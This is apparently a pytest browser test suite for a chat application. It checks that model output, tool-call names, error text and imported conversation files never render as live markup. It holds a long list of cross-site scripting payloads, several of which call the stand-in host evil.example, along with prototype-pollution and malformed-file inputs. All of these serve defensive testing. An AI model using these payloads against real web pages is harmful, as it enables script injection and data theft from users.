"""What a model, or a file, may not do to whoever reads its answers. In a real browser, with the page's own policy.

`new_chat` checks at the end of each test that no other host was asked, and that the policy had nothing to forbid: what is
dangerous has to be gone before the policy is needed.
"""

from __future__ import annotations

import pytest

pytest_plugins = ["page_browser"]
pytestmark = pytest.mark.browser

# Each would set window.broken, or ask a foreign host, on a page that trusted it.
ATTACKS = [
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    "<img src='https://evil.example/seen.png'>",
    "<svg onload='window.broken = 1'><script>window.broken = 1</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values='javascript:window.broken=1' /><a id=x><text>X</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.broken=1'></style></mglyph></table></mtext></math>",
    "<iframe src='javascript:window.broken=1'></iframe><iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x'>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<form action='https://evil.example'><input name=key><button>Send</button></form>",
    "<details open ontoggle='window.broken=1'><summary>x</summary></details>",
    "<a href='javascript:window.broken=1'>press</a>",
    "[press](javascript:window.broken=1)",
    "[press](JaVaScRiPt&#58;window.broken=1)",
    "[press](\x01javascript:window.broken=1)",
    "[press](java\tscript:window.broken=1)",
    "[press](data:text/html,<script>window.broken=1</script>)",
    "[press](vbscript:window.broken=1)",
    "[press](file:///etc/passwd)",
    "[press](blob:https://evil.example/1)",
    "<javascript:window.broken=1>",
    "[press][1]\n\n[1]: javascript:window.broken=1",
    "![seen](https://evil.example/seen.png)",
    "![seen][1]\n\n[1]: https://evil.example/seen.png 'title'",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    '[a](https://x.example/"onmouseover="window.broken=1)',
    '[a](https://x.example "title\\" onmouseover=\\"window.broken=1")',
    "```html\n<script>window.broken = 1</script><img src=x onerror=window.broken=1>\n```",
    '```"><script>window.broken=1</script>\ncode\n```',
    "```python onmouseover=window.broken=1\nprint('<b>')\n```",
    "`<img src=x onerror=window.broken=1>`",
    "| <script>window.broken=1</script> |\n|--|\n| <img src=x onerror=window.broken=1> |",
    "$\\href{javascript:window.broken=1}{x}$",
    "$\\url{javascript:window.broken=1}$",
    "$\\includegraphics{https://evil.example/seen.png}$",
    "$\\htmlStyle{background:url(https://evil.example/seen.png)}{x}$",
    "$\\htmlData{x=1}{y} \\htmlId{prompt}{z} \\htmlClass{banner}{w}$",
    "$\\text{<img src=x onerror=window.broken=1>}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$$\\rule{1000000em}{1000000em}$$",
    "\\[<script>window.broken=1</script>\\]",
    "https://evil.example/<script>window.broken=1</script>",
    "<!--<img src='--><img src=x onerror=window.broken=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.broken=1>'>",
    "<textarea></textarea><script>window.broken=1</script>",
    "&lt;script&gt;window.broken=1&lt;/script&gt;",
]

FINDINGS = """() => {
    const inside = document.querySelector("#messages");
    const bad = "script, iframe, object, embed, style, link, meta, base, form:not(.results), input, img, video, audio";
    const found = [...inside.querySelectorAll(`${bad}, svg:not(.icon):not(.katex svg)`)].map((each) => each.outerHTML);
    for (const each of inside.querySelectorAll("*")) {
        for (const { name, value } of each.attributes) {
            const isBad = name.startsWith("on") || ["src", "srcdoc", "action", "xlink:href"].includes(name);
            const leads = name === "href" && !/^(https?:|mailto:)/.test(value);
            if (isBad || leads || /url\\(/.test(value)) found.push(`${name}=${value}`);
        }
    }
    if (window.broken) found.push("a script ran");
    return found;
}"""


def stream(text: str):
    """One character at a time: what is cut anywhere has to be as harmless as the whole."""
    return [("text", each) for each in text]


def test_nothing_that_a_model_writes_becomes_markup(server, chat):
    """All in one chat, as answers, as reasoning, and in the question."""
    for attack in ATTACKS:
        server.script = lambda body, attack=attack: [("reasoning", attack), *stream(attack)]
        chat.say(attack)
        assert chat.page.evaluate(FINDINGS) == [], attack
    chat.page.evaluate("document.querySelectorAll('.reasoning').forEach((each) => (each.open = true))")
    chat.page.mouse.move(600, 300)
    chat.page.wait_for_timeout(100)
    assert chat.page.evaluate(FINDINGS) == []
    # The same from the store, drawn at once
    chat.saved()
    chat.page.reload()
    chat.wait_for_state("ready")
    chat.page.wait_for_selector(".message.answer")
    while chat.page.locator(".earlier").count():
        chat.page.click(".earlier")
    assert chat.page.locator(".message").count() == 2 * len(ATTACKS)
    assert chat.page.evaluate(FINDINGS) == []


def test_what_is_written_as_html_can_be_read(server, chat):
    server.script = lambda body: [("text", 'Use <b>bold</b> & `<i>`.\n\n```html\n<p onclick="x()">Hi</p>\n```')]
    chat.say("How?")
    assert chat.page.locator(".message.answer p").inner_text() == "Use <b>bold</b> & <i>."
    assert chat.page.locator(".message.answer pre").text_content() == '<p onclick="x()">Hi</p>\n'


def test_links_leave_in_a_tab_that_knows_nothing_of_this_one(server, chat):
    links = (
        "[site](https://example.org/a) <me@example.org> https://example.org/b ![picture](http://e.org/p.png) main.py"
    )
    server.script = lambda body: [("text", links)]
    chat.say("Links?")
    links = chat.page.locator(".message.answer a")
    assert [each.get_attribute("href") for each in links.all()] == [
        "https://example.org/a", "mailto:me@example.org", "https://example.org/b", "http://e.org/p.png",
    ]  # fmt: skip
    for each in links.all():
        assert each.get_attribute("target") == "_blank"
        assert each.get_attribute("rel") == "noopener noreferrer nofollow"


def test_names_and_arguments_of_calls_are_text(server, chat):
    attack = "<img src=x onerror=window.broken=1>"
    server.script = lambda body: [("call", "call_1", attack, f'{{"a": "{attack}"}}')]
    chat.say("Call")
    assert chat.page.locator(".call-name").inner_text() == attack
    chat.page.get_by_label(f"Result of {attack}").fill(attack)
    server.script = lambda body: [("text", "done")]
    chat.page.get_by_role("button", name="Send the result").click()
    chat.page.locator(".message", has_text="done").wait_for()
    assert chat.page.evaluate(FINDINGS) == []


def test_names_of_models_and_errors_are_text(server, new_chat):
    attack = "<img src=x onerror=window.broken=1>"
    server.models = [attack]
    server.health = {"models": [{"id": attack, "state": "failed", "error": attack}]}
    chat = new_chat().open()
    chat.page.locator("#failed-banner").wait_for()
    assert chat.page.locator("#failed-banner").inner_text() == f"{attack} could not be loaded: {attack}"
    server.script = lambda body: [("error", attack)]
    chat.say(attack)
    assert chat.page.locator(".trouble span").inner_text() == attack
    assert chat.titles() == [attack]
    assert chat.page.evaluate("window.broken") is None
    assert chat.page.locator("img").count() == 0


HOSTILE_FILES = [
    b"", b"null", b"[]", b"{", b"{}", b"\xff\xfe\x00", b"[" * 100_000,
    b'{"conversations": 1}', b'{"conversations": []}', b'{"conversations": [null, 1, {}]}',
    b'{"conversations": [{"id": "a"}]}', b'{"conversations": [{"id": 1, "messages": {}}]}',
]  # fmt: skip


def test_a_file_that_holds_no_conversations_is_refused_with_a_sentence(chat):
    for file in HOSTILE_FILES:
        chat.take_in(file)
        notice = chat.page.locator(".notice", has_text="This file")
        notice.wait_for()
        chat.page.evaluate("document.querySelectorAll('.notice').forEach((each) => each.remove())")
    assert chat.titles() == []


def test_a_hostile_file_is_read_as_far_as_it_makes_sense(server, chat):
    attack = "<img src=x onerror=window.broken=1>"
    circle = {
        "a": {"id": "a", "parent": "b", "role": "user", "content": "A"},
        "b": {"id": "b", "parent": "a", "role": "assistant", "content": "B"},
    }
    calls = [1, {"id": "c", "name": attack}]
    odd = {
        "x": {"id": "x", "parent": "nobody", "role": "user", "content": attack, "created": "late"},
        "y": {
            "id": "y",
            "parent": "x",
            "role": "assistant",
            "content": {"not": "text"},
            "calls": calls,
            "state": "odd",
        },
        "z": {"id": "z", "role": "root"},
        "__proto__": {"id": "__proto__", "parent": "y", "role": "user", "content": "polluted"},
    }
    settings = {"temperature": "hot", "system": 7, "model": None, "polluted": True}
    chat.take_in(
        {
            "conversations": [
                {"id": "one", "title": attack, "messages": circle, "leaf": "b", "updated": 3},
                {"id": "__proto__", "title": ["x"], "messages": odd, "leaf": "z", "settings": settings, "updated": 2},
            ]
        }
    )
    chat.page.locator(".notice", has_text="2 chats are imported").wait_for()
    assert sorted(chat.titles()) == sorted([attack, "New chat"])
    for title in chat.titles():
        chat.page.locator("#conversations .open", has_text=title).click()
        assert chat.page.evaluate(FINDINGS) == []
        chat.say("Go on")
        assert chat.page.evaluate(FINDINGS) == []
    assert chat.page.evaluate("[({}).content, ({}).polluted, window.broken]") == [None, None, None]
    assert "temperature" not in server.requests[-1]
